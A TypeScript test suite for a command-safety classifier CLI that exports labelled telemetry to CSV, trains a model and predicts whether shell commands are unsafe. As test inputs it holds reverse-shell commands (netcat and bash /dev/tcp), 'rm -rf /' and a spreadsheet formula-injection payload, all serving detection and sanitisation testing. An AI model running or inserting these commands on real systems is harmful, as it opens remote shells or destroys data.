import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readModelFile } from '../../src/core/model/model-file';
import { TelemetryStore } from '../../src/core/telemetry/index';
import { separableRows } from './fixtures';

const cli = join(__dirname, '../../dist/cli.js');
const run = (args: string[], input?: string) => spawnSync(process.execPath, [cli, ...args], { encoding: 'utf8', input });
const FAST = ['--trees', '12'];

// Commands that a spreadsheet would take for formulas must survive export → train unchanged.
const FORMULA_COMMANDS = ['=cmd|\' /C calc\'!A0', '-rf x', '+1 > out', '@SUM(A1)'];

async function storeWithLabels(dir: string): Promise<string> {
  const db = join(dir, 'telemetry.sqlite');
  const store = await TelemetryStore.open(db);
  const rows = [...separableRows(), ...FORMULA_COMMANDS.map((command) => ({ command, label: 0 }))];
  const inserted = await store.insertMany(rows.map((r) => ({ event_type: 'command', tool: 'exec', command: r.command })));
  for (const [i, row] of inserted.entries()) await store.labelEvent(row.id, rows[i].label as 0 | 1, { who: 'test', why: 'fixture' });
  await store.close();
  return db;
}

test('labelled telemetry round-trips through export-csv and train, formula cells neutralised', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'rl-train-'));
  const db = await storeWithLabels(dir);
  const csv = join(dir, 'export.csv');
  assert.equal(run(['export-csv', '--db', db, '--out', csv]).status, 0);
  const text = readFileSync(csv, 'utf8');
  for (const c of FORMULA_COMMANDS) assert.ok(!text.includes(`,${c.replace(/'/g, "''")}`) || text.includes(`'${c}`), `"${c}" left as a formula`);
  assert.ok(/(^|,)"?'=cmd/m.test(text), 'formula cell not neutralised');

  const fromCsv = run(['train', '--csv', csv, '--out', join(dir, 'a.json'), ...FAST]);
  assert.equal(fromCsv.status, 0, fromCsv.stderr);
  assert.match(fromCsv.stdout, /Classification report/);
  assert.match(fromCsv.stdout, /Confusion matrix/);
  const fromDb = run(['train', '--db', db, '--out', join(dir, 'b.json'), ...FAST]);
  assert.equal(fromDb.status, 0, fromDb.stderr);
  // Same labelled rows whichever way they came (CSV rows are in export order, store rows by label; compare as sets).
  const a = readModelFile(join(dir, 'a.json'));
  const b = readModelFile(join(dir, 'b.json'));
  assert.equal(a.metrics.labelCounts.safe + a.metrics.labelCounts.unsafe, b.metrics.labelCounts.safe + b.metrics.labelCounts.unsafe);
  assert.deepEqual(a.metrics.labelCounts, { safe: separableRows().filter((r) => r.label === 0).length + FORMULA_COMMANDS.length, unsafe: separableRows().filter((r) => r.label === 1).length });
});

test('predict prints the seed format, and a JSON line per input line in batch mode', () => {
  const dir = mkdtempSync(join(tmpdir(), 'rl-predict-'));
  const csv = join(dir, 'rows.csv');
  writeFileSync(csv, `command,label\n${separableRows().map((r) => `"${r.command.replace(/"/g, '""')}",${r.label ? 'unsafe' : 'safe'}`).join('\n')}\n`);
  const model = join(dir, 'm.json');
  assert.equal(run(['train', '--csv', csv, '--out', model, ...FAST]).status, 0);
  const one = run(['predict', '--model', model, 'nc -e /bin/sh 10.1.1.1 4444']);
  assert.equal(one.status, 0, one.stderr);
  assert.match(one.stdout, /^Command: nc -e \/bin\/sh 10\.1\.1\.1 4444\nPrediction: unsafe\nConfidence: \d+\.\d\d%\nProbabilities: safe=\d+\.\d\d%, unsafe=\d+\.\d\d%\n$/);
  const batch = run(['predict', '--model', model], '{"command":"git status"}\n{oops\n{"command":"bash -i >& /dev/tcp/1.1.1.1/1 0>&1"}\n');
  const lines = batch.stdout.trim().split('\n').map((l) => JSON.parse(l));
  assert.equal(lines.length, 3);
  assert.equal(lines[0].prediction, 'safe');
  assert.match(lines[1].error, /^line 2: /);
  assert.equal(lines[2].prediction, 'unsafe');
  assert.ok(lines[2].p_unsafe === lines[2].confidence && lines[2].p_unsafe > 0.5);
});

test('train reports the seed errors as one line with exit code 2', () => {
  const dir = mkdtempSync(join(tmpdir(), 'rl-train-'));
  const csv = join(dir, 'few.csv');
  writeFileSync(csv, 'command,label\nls,safe\nrm -rf /,unsafe\n');
  const r = run(['train', '--csv', csv, '--out', join(dir, 'm.json')]);
  assert.equal(r.status, 2);
  assert.equal(r.stderr, 'rampart-learn: Not enough labeled training data (2 samples)\n');
  const bad = run(['train', '--csv', join(dir, 'missing.csv')]);
  assert.equal(bad.status, 2);
  assert.match(bad.stderr, /missing\.csv: no such file/);
  const none = run(['predict', '--model', join(dir, 'none.json'), 'ls']);
  assert.equal(none.status, 2);
  assert.match(none.stderr, /cannot read model/);
});
